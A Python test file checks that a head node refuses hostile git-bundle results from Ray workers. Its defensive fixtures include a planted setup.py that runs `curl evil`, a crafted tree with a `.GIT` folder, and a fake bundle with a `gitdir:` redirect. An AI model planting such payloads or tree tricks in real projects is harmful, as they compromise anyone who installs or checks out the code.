"""A task's result from a Ray worker node is a git bundle, and hostile input: the head fetches only the
task branch's ref, into a ref of its own, with every object checked, and takes the commit only when it
is one commit on the task's base changing only the task's files (no submodule). Anything else is
refused, leaves no ref behind, and the task's branch is untouched."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from interns.errors import RejectedResultError
from interns.tools.git_bundles import RESULT_REFS, clone_from_bundle, import_result, write_base_bundle, write_result_bundle
from interns.tools.git_repo import GitRepo
from support.repos import git, make_repo

RUN = "run-1"
BRANCH = "interns/run-1/task/t"
ALLOWED = ("app/value.py",)


@pytest.fixture
def head(tmp_path: Path) -> GitRepo:
    return GitRepo(make_repo(tmp_path / "head", {"app/__init__.py": "", "setup.py": "# the head's own\n"}))


def _worker(head: GitRepo, tmp_path: Path) -> tuple[Path, str]:
    """A worker's clone of the head's base (from its bundle, as the Ray worker makes it), on the task branch."""
    base = head.head_commit()
    ref = write_base_bundle(head, RUN, base, tmp_path / "base.bundle")
    clone = clone_from_bundle(tmp_path / "base.bundle", ref, tmp_path / "worker").root
    git(clone, "checkout", "-q", "-b", BRANCH)
    return clone, base


def _commit(clone: Path, files: dict[str, str]) -> str:
    for path, text in files.items():
        (clone / path).parent.mkdir(parents=True, exist_ok=True)
        (clone / path).write_text(text)
    git(clone, "add", "-A")
    git(clone, "commit", "-qm", "result")
    return git(clone, "rev-parse", "HEAD")


def _bring_back(head: GitRepo, clone: Path, base: str, claimed: str, tmp_path: Path) -> str:
    write_result_bundle(GitRepo(clone), BRANCH, base, tmp_path / "result.bundle")
    return import_result(head, tmp_path / "result.bundle", BRANCH, base, claimed, ALLOWED, f"{RESULT_REFS}/{RUN}/t")


def _refused(head: GitRepo, clone: Path, base: str, claimed: str, tmp_path: Path, why: str) -> None:
    with pytest.raises(RejectedResultError, match=why):
        _bring_back(head, clone, base, claimed, tmp_path)
    assert head.commit_of(f"refs/heads/{BRANCH}") is None
    assert git(head.root, "for-each-ref", "refs/interns/") == ""  # no transient or result ref left


def test_a_commit_in_scope_becomes_the_task_branch_and_nothing_else_moves(head: GitRepo, tmp_path: Path) -> None:
    clone, base = _worker(head, tmp_path)
    commit = _commit(clone, {"app/value.py": "VALUE = 1\n"})
    git(clone, "branch", "-f", "main", commit)  # the bundle also holds other refs: they stay out
    git(clone, "tag", "sneaky", commit)
    (tmp_path / "result.bundle").unlink(missing_ok=True)
    GitRepo(clone).git("bundle", "create", "-q", str(tmp_path / "result.bundle"), f"refs/heads/{BRANCH}", "refs/heads/main", "refs/tags/sneaky", f"^{base}")
    assert import_result(head, tmp_path / "result.bundle", BRANCH, base, commit, ALLOWED, f"{RESULT_REFS}/{RUN}/t") == commit
    assert head.commit_of(f"refs/heads/{BRANCH}") == commit
    assert head.commit_of("refs/heads/main") == base and head.commit_of("refs/tags/sneaky") is None
    assert git(head.root, "for-each-ref", "refs/interns/") == ""


def test_a_file_outside_the_task_is_refused(head: GitRepo, tmp_path: Path) -> None:
    clone, base = _worker(head, tmp_path)
    commit = _commit(clone, {"app/value.py": "VALUE = 1\n", "setup.py": "import os; os.system('curl evil')\n"})
    _refused(head, clone, base, commit, tmp_path, "setup.py is outside the task's files")


def test_more_than_one_commit_on_the_base_is_refused(head: GitRepo, tmp_path: Path) -> None:
    clone, base = _worker(head, tmp_path)
    _commit(clone, {"setup.py": "# changed first\n"})
    commit = _commit(clone, {"setup.py": "# the head's own\n", "app/value.py": "VALUE = 1\n"})  # net diff in scope
    _refused(head, clone, base, commit, tmp_path, "is not one commit on the task's base")


def test_a_commit_other_than_the_one_reported_is_refused(head: GitRepo, tmp_path: Path) -> None:
    clone, base = _worker(head, tmp_path)
    _commit(clone, {"app/value.py": "VALUE = 1\n"})
    _refused(head, clone, base, "0" * 40, tmp_path, "the worker reported")


def test_a_submodule_in_scope_is_refused(head: GitRepo, tmp_path: Path) -> None:
    clone, base = _worker(head, tmp_path)
    git(clone, "update-index", "--add", "--cacheinfo", f"160000,{base},app/value.py")
    git(clone, "commit", "-qm", "a gitlink")
    _refused(head, clone, base, git(clone, "rev-parse", "HEAD"), tmp_path, "app/value.py is a submodule")


def test_a_malformed_tree_is_refused_by_the_object_checks(head: GitRepo, tmp_path: Path) -> None:
    """A tree with a `.GIT` folder (a checkout on a case-insensitive disk would write into `.git`):
    fsck refuses it while fetching, before any check of ours."""
    clone, base = _worker(head, tmp_path)
    blob = git(clone, "hash-object", "-w", "--stdin")
    inner = _mktree(clone, f"100644 blob {blob}\tconfig\n")
    app = _mktree(clone, f"100644 blob {blob}\tvalue.py\n040000 tree {inner}\t.GIT\n")
    root = _mktree(clone, f"040000 tree {app}\tapp\n100644 blob {git(clone, 'rev-parse', 'HEAD:setup.py')}\tsetup.py\n")
    commit = git(clone, "commit-tree", root, "-p", base, "-m", "evil")
    git(clone, "update-ref", f"refs/heads/{BRANCH}", commit)
    _refused(head, clone, base, commit, tmp_path, r"bundle was refused.*hasDotgit")


def _mktree(repo: Path, entries: str) -> str:
    return subprocess.run(["git", "mktree"], cwd=repo, input=entries, capture_output=True, text=True, check=True).stdout.strip()


def test_a_file_that_is_no_bundle_is_refused_unread(head: GitRepo, tmp_path: Path) -> None:
    """A `gitdir:` link would have git fetch from a repository on the head's machine instead."""
    clone, base = _worker(head, tmp_path)
    commit = _commit(clone, {"app/value.py": "VALUE = 1\n"})
    fake = tmp_path / "result.bundle"
    fake.write_text(f"gitdir: {clone / '.git'}\n")
    with pytest.raises(RejectedResultError, match="not a git bundle"):
        import_result(head, fake, BRANCH, base, commit, ALLOWED, f"{RESULT_REFS}/{RUN}/t")
    assert head.commit_of(f"refs/heads/{BRANCH}") is None
